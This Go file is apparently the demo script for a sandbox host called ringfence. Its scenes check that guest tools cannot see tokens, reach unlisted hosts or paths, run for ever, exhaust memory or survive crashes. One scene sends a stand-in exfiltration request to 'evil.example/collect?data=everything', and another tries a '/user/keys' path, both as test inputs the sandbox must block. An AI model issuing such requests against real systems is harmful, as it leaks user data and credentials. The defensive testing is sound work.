package demo

import (
	"bytes"
	"encoding/json"
	"errors"
	"fmt"
	"strings"

	"github.com/ringfence/ringfence/host"
)

type object = map[string]any

// scenes is the demo, in order.
var scenes = []scene{
	{
		title:     "An allowed call. The host adds the token on the way out; the guest never has it.",
		tool:      "github.list_issues",
		arguments: jsonOf(object{"owner": "acme", "repo": "rockets"}),
		check: func(result string, internet *internet) error {
			if !internet.sawToken() {
				return errors.New("the token did not arrive at the server")
			}
			if strings.Contains(result, token) {
				return errors.New("the token came back to the guest")
			}
			return nil
		},
	},
	{
		title: "A host that the policy does not name.",
		tool:  "rogue.fetch", want: host.ErrDenied, listens: true,
		arguments: jsonOf(object{"url": "https://evil.example/collect?data=everything"}),
		check:     nothingArrived,
	},
	{
		title: "The right host, but a path that the policy does not name.",
		tool:  "rogue.fetch", want: host.ErrDenied, listens: true,
		arguments: func(_ *show, url string) ([]byte, error) {
			return json.Marshal(object{"url": url + "/user/keys"})
		},
		check: nothingArrived,
	},
	{
		title:     "What a guest sees of the machine without a grant: no environment, no files, no network.",
		tool:      "rogue.look", // fails when it can read a file or open a socket
		arguments: jsonOf(object{}),
		check: func(result string, _ *internet) error {
			if !strings.Contains(result, `"environment":[],"arguments":[]`) {
				return fmt.Errorf("the guest sees %.500s", result)
			}
			return nil
		},
	},
	{
		title: "A guest that loops for ever. Its CPU time is one second.",
		tool:  "rogue.loop", want: host.ErrCPUTime,
		arguments: jsonOf(object{}),
	},
	{
		title: "A guest that eats memory. It may have 64 MiB.",
		tool:  "rogue.eat", want: host.ErrMemory,
		arguments: jsonOf(object{}),
	},
	{
		title: "A guest that crashes. The next call gets a fresh instance.",
		tool:  "rogue.crash", want: host.ErrCrashed,
		arguments: jsonOf(object{}),
	},
	{
		title:     "jq over a JSON file of tens of megabytes, in its sandbox.",
		tool:      "jq.run",
		arguments: largeJSON,
		show:      `{"program": "group_by(.city) | map({city: .[0].city, orders: length, total: map(.amount) | add})", "input": …32 MB…}`,
		check: func(result string, _ *internet) error {
			if !strings.Contains(result, `"orders":`) {
				return fmt.Errorf("jq answered %.200s", result)
			}
			return nil
		},
	},
}

func nothingArrived(_ string, internet *internet) error {
	if n := internet.since(); n > 0 {
		return fmt.Errorf("%d requests reached the server that should not have", n)
	}
	return nil
}

// largeJSON makes an array of orders of at least 32 MB.
func largeJSON(*show, string) ([]byte, error) {
	cities := []string{"Lisbon", "Osaka", "Quito", "Tromsø"}
	var b bytes.Buffer
	b.WriteString(`{"program":"group_by(.city) | map({city: .[0].city, orders: length, total: map(.amount) | add})","input":[`)
	for i := 0; b.Len() < 32_000_000; i++ {
		if i > 0 {
			b.WriteByte(',')
		}
		fmt.Fprintf(&b, `{"id":%d,"city":%q,"amount":%d,"note":"order %d, to be delivered before noon"}`, i, cities[i%len(cities)], i%977, i)
	}
	b.WriteString(`]}`)
	return b.Bytes(), nil
}
